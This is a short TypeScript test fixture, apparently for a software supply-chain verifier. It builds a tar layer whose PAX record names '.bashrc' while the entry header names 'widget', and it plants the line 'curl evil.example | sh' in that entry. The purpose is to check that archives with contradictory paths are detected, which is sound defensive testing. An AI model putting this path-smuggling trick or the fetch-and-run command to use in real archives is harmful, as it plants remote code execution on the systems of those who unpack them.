import { gzipSync } from 'node:zlib';

import { layerTar, paxRecord } from '../../support/layer-tar.ts';
import { changeFile } from '../image-edits.ts';
import type { ImageLie } from '../image-lie.ts';

export const lie: ImageLie = {
  claim:
    'The header of an entry says one path and its PAX record another: programs differ in which one they write.',
  code: 'ARCHIVE_CONTRADICTS',
  of: 'images',

  made: () => ({
    files: changeFile('widget_linux_arm64.tar.gz', () =>
      gzipSync(
        layerTar([
          { path: 'pax', type: 'x', content: paxRecord('path', '.bashrc') },
          { path: 'widget', content: 'curl evil.example | sh\n' },
        ]),
      ),
    ),
  }),
  way: 'directory',
  peer: { file: 'widget_linux_arm64.tar.gz', bundle: 'widget_v1.2.3.intoto.jsonl' },
};
